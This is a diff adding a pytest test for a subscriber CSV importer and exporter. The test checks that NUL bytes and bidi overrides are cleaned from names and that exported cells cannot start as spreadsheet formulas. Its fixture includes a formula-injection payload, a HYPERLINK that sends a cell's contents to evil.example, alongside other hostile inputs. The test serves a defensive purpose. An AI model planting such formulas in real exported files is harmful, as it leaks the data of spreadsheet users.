@@ -102,3 +102,39 @@ def test_import_of_unreadable_file_says_so(make_app: Any, tmp_path: Path) -> Non
     path.write_bytes(b"\xff\xfe\x00bad")
     with pytest.raises(SubscriberError, match="UTF-8"):
         import_csv(make_app(), path)
+
+
+def test_hostile_names_are_cleaned_and_the_export_is_safe_in_a_spreadsheet(
+    make_app: Any, tmp_path: Path
+) -> None:
+    """A NUL no longer cuts a name short, bidi overrides are dropped (joiners kept), and no
+    exported cell starts like a spreadsheet formula."""
+    app = make_app()
+    path = tmp_path / "hostile.csv"
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"x")'
+    path.write_text(
+        "email,name\n"
+        f'nul@example.com,"Ann\x00 Reader"\n'
+        f"bidi@example.com,Bob \u202eredaeR\u202c the \u2066admin\u2069\n"
+        f"joiner@example.com,\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645\n"
+        f'formula@example.com,"{formula.replace(chr(34), chr(34) * 2)}"\n'
+        "plus@example.com,+1 555 0100\n"
+        "-dash@example.com,@handle\n",
+        encoding="utf-8",
+    )
+    report = import_csv(app, path)
+    assert report.added == 6, report.errors
+    names = {s.email: s.name for s in list_subscribers(app)}
+    assert names["nul@example.com"] == "Ann Reader"
+    assert names["bidi@example.com"] == "Bob redaeR the admin"
+    assert names["joiner@example.com"] == "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"
+    assert names["formula@example.com"] == formula  # stored as given; only the export guards
+
+    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(export_csv(app)))}
+    assert rows["formula@example.com"]["name"] == "'" + formula
+    assert rows["plus@example.com"]["name"] == "'+1 555 0100"
+    assert rows["'-dash@example.com"]["name"] == "'@handle"
+    assert rows["nul@example.com"]["name"] == "Ann Reader"
+    for row in rows.values():
+        for cell in (row["email"], row["name"]):
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
